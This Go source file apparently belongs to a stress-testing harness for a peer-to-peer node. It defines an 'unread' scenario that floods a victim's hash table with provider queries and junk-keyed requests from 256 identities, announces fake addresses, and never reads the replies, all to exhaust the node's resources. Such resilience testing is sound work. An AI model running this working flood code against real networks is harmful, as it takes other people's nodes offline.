package attack

import (
	"bytes"
	"context"
	"crypto/sha256"
	"fmt"
	"time"

	"github.com/multiformats/go-multiaddr"
)

// unread attacks with questions whose answers nobody reads: whoever answers waits, and holds
// what was asked meanwhile too.
func unread() Scenario {
	return Scenario{
		Name: "unread", Daemons: true,
		About: "asks the victim's hash table for whom it knows and reads no answer, on two streams of each of 256 identities, which fill them with more questions",
		Run:   onField(plain, flooded("unread answers", 256, askInVain)),
	}
}

// askInVain asks for the announcements under the network's key, more often than the answers
// fit into a stream, and then fills the other direction of the stream. Before, it announces
// itself at as many addresses as are kept, so that the answers are long.
func askInVain(ctx context.Context, i int, s *stranger) {
	const addresses, streams, enough, window = 16, 2, 8, 200 << 10
	const hold = 15 * time.Second
	victim, table := s.field.victim(), tableProtocol(s.field.network)
	sum := sha256.Sum256([]byte("p2pnode/" + s.field.network))
	key := append([]byte{0x12, 0x20}, sum[:]...) // in the form of a SHA-256 multihash
	var addrs [][]byte
	for k := range addresses {
		addrs = append(addrs, multiaddr.StringCast(fmt.Sprintf("/ip4/64.255.%d.%d/tcp/4001", i%256, k)).Bytes())
	}
	const getProviders = 3
	question := framed(bytesField(numberField(nil, 1, getProviders), 2, key))
	long := framed(bytesField(numberField(nil, 1, getProviders), 2, make([]byte, 8<<10)))
	questions := append(bytes.Repeat(question, enough), bytes.Repeat(long, window/len(long))...)
	for ctx.Err() == nil {
		if s.meet(ctx, victim) != nil {
			return
		}
		if announced, err := s.say(ctx, victim, table, framed(provide(key, s.ID(), addrs))); err == nil {
			_ = announced.Close()
		}
		for range streams {
			stream, err := s.say(ctx, victim, table, question)
			if err != nil {
				break
			}
			_ = stream.SetWriteDeadline(time.Now().Add(time.Second))
			_, _ = stream.Write(questions)
		}
		if rest(ctx, hold) != nil {
			return
		}
	}
}
